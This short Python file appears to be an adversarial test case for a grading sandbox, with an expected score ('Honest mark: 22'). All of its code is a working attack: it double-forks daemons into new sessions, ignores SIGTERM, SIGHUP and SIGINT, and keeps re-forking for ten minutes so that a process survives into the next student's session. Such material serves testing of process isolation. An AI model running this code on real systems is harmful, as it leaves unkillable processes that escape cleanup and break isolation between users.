"""Attack: daemons, double-forked, in sessions of their own, that ignore signals and fork on.
Wants: a process that is still there for the next student.
Honest mark: 22
"""

# %% own
import os, signal, time

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        end = time.time() + 600
        while time.time() < end:
            time.sleep(0.05)
            if os.fork():
                os._exit(0)
        os._exit(0)
